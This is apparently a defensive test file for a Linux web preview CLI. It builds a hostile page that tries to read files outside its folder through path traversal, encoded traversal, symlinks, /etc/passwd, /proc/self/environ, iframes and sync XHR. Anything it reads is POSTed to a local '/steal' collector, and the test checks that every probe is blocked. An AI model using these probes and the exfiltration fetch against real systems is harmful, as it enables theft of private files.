// A previewed page reads only what it was given: a hostile page, opened as a user opens a file
// (the CLI's open, which serves the file's folder), tries every way a page has to read a file
// outside its folder and to send it to a server of its choosing. Real WebKitGTK, real files,
// a real collecting server on 127.0.0.1.
import * as assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { CLI } from '../support/harness';
import { linuxSuite } from '../support/linuxSuite';
import { until } from '../support/until';

const SECRET = 'PRIVATE-KEY-d41d8cd9';

/** Collects whatever pages send it: the exfiltration target. */
async function startCollector(): Promise<{ url: string; received: string[]; close(): Promise<void> }> {
  const received: string[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d) => { body += d; });
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${body}`);
      res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () => new Promise((r) => { server.closeAllConnections(); server.close(() => r()); }),
  };
}

/** Each probe prints "PROBE name: read <text>" or "PROBE name: blocked", and sends what it read. */
function hostilePage(secretFile: string, collector: string): string {
  const fileUrl = pathToFileURL(secretFile).href;
  return `<!doctype html><meta charset="utf-8"><title>hostile</title><body></body>
<script type="module">import { answer } from './mod.js'; console.log('PROBE module: read ' + answer);</script>
<script>
const report = (name, text) => {
  const got = typeof text === 'string' && text.length > 0;
  console.log('PROBE ' + name + ': ' + (got ? 'read ' + text.slice(0, 40) : 'blocked'));
  if (got) fetch(${JSON.stringify(collector)} + '/steal?' + name, { method: 'POST', body: text, mode: 'no-cors' }).catch(() => {});
};
const viaFetch = (name, url) => fetch(url).then((r) => r.ok ? r.text() : '', () => '').then((t) => report(name, t));
viaFetch('data', 'data.json');
viaFetch('file-url', ${JSON.stringify(fileUrl)});
viaFetch('etc-passwd', 'file:///etc/passwd');
viaFetch('dotdot', '../secret.txt');
viaFetch('encoded-dotdot', '%2e%2e/secret.txt');
viaFetch('encoded-slash', '..%2fsecret.txt');
viaFetch('symlink', 'leak.txt');
viaFetch('symlinked-folder', 'up/secret.txt');
viaFetch('proc', 'environ');
try {
  const x = new XMLHttpRequest();
  x.open('GET', ${JSON.stringify(fileUrl)}, false);
  x.send();
  report('sync-xhr', x.responseText);
} catch (e) { report('sync-xhr', ''); }
const frame = document.createElement('iframe');
frame.src = ${JSON.stringify(fileUrl)};
// A blocked frame fires no load event of its own; the page's load event comes after every frame.
window.addEventListener('load', () => { let t = ''; try { t = frame.contentDocument.body.innerText; } catch (e) {} report('iframe', t); });
document.body.appendChild(frame);
const img = new Image();
img.onload = () => report('image', 'loaded');
img.onerror = () => report('image', '');
img.src = ${JSON.stringify(pathToFileURL(path.join(path.dirname(secretFile), 'secret.png')).href)};
</script>`;
}

function fail(message: string): never {
  throw new Error(message);
}

describe('Linux: a previewed page reads only its own folder', function () {
  const suite = linuxSuite();
  let top: string;
  let collector: Awaited<ReturnType<typeof startCollector>>;
  let cli: ChildProcess | undefined;

  before(async () => {
    top = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'webview2-host-hostile-')));
    const site = path.join(top, 'site');
    fs.mkdirSync(site);
    fs.writeFileSync(path.join(top, 'secret.txt'), SECRET);
    fs.copyFileSync(path.join(__dirname, '..', '..', '..', 'media', 'icon.png'), path.join(top, 'secret.png'));
    collector = await startCollector();
    fs.writeFileSync(path.join(site, 'index.html'), hostilePage(path.join(top, 'secret.txt'), collector.url));
    fs.writeFileSync(path.join(site, 'data.json'), '{"mine":true}');
    fs.writeFileSync(path.join(site, 'mod.js'), 'export const answer = "module-ok";');
    fs.symlinkSync(path.join(top, 'secret.txt'), path.join(site, 'leak.txt'));
    fs.symlinkSync(top, path.join(site, 'up'));
    fs.symlinkSync('/proc/self/environ', path.join(site, 'environ'));
  });
  after(async () => {
    cli?.kill('SIGTERM');
    await collector?.close();
    fs.rmSync(top, { recursive: true, force: true });
  });

  it('reads its folder (fetch, module scripts) and nothing outside it by any means; nothing leaves', async () => {
    const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'webview2-host-hostile-profile-'));
    let out = '';
    let err = '';
    cli = spawn(process.execPath, [CLI, 'open', path.join(top, 'site', 'index.html'), '--console', '--for', '60', '--user-data-folder', profile], { stdio: ['ignore', 'pipe', 'pipe'] });
    cli.stdout!.on('data', (d) => { out += d; });
    cli.stderr!.on('data', (d) => { err += d; });
    const probes = ['module', 'data', 'file-url', 'etc-passwd', 'dotdot', 'encoded-dotdot', 'encoded-slash', 'symlink', 'symlinked-folder', 'proc', 'sync-xhr', 'iframe', 'image'];
    const results = (): Map<string, string> => new Map([...out.matchAll(/PROBE ([\w-]+): (.*?) \(/g)].map((m) => [m[1], m[2]]));
    await until('every probe to report', () => probes.every((p) => results().has(p)) || (cli!.exitCode !== null && fail('the CLI exited')), 30000)
      .catch((e: Error) => fail(`${e.message}\nstdout:\n${out}\nstderr:\n${err}`));
    const r = results();
    assert.equal(r.get('module'), 'read module-ok');
    assert.equal(r.get('data'), 'read {"mine":true}');
    for (const p of probes.filter((name) => name !== 'module' && name !== 'data')) {
      assert.equal(r.get(p), 'blocked', `${p} read outside its folder: ${r.get(p)}`);
    }
    // The page's channel out works (it sends what it may read), and carried nothing else.
    await until('the page to send what it was allowed to read', () => collector.received.some((line) => line.includes('"mine":true')));
    assert.ok(!collector.received.some((line) => line.includes(SECRET)), `the secret left: ${collector.received.join('\n')}`);
    assert.ok(!out.includes(SECRET) && !err.includes(SECRET));
    // People see the file's own path, never the preview server's address and token.
    assert.match(err, new RegExp(`opened for ${path.join(top, 'site', 'index.html').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
    assert.ok(!/127\.0\.0\.1:\d+\/[0-9a-f]{32}/.test(out + err), `a served URL was shown:\n${out}\n${err}`);
    fs.rmSync(profile, { recursive: true, force: true });
  });
  it('a page loaded as a file: URL cannot read other files either (the engine\'s file access stays off)', async () => {
    const page = path.join(top, 'site', 'direct.html');
    fs.writeFileSync(page, `<title>direct</title><script>
fetch(${JSON.stringify(pathToFileURL(path.join(top, 'secret.txt')).href)}).then((r) => r.text()).then((t) => console.log('DIRECT read ' + t), () => console.log('DIRECT blocked'));
</script>`);
    const env = await suite.h.environment();
    const since = suite.h.mark();
    const w = await suite.h.openLoaded(env, pathToFileURL(page).href);
    const seen = await suite.h.next('consoleMessage', (e) => e.windowId === w.windowId && String(e.message).startsWith('DIRECT'), 15000, since);
    assert.equal(seen.params.message, 'DIRECT blocked');
  });
});
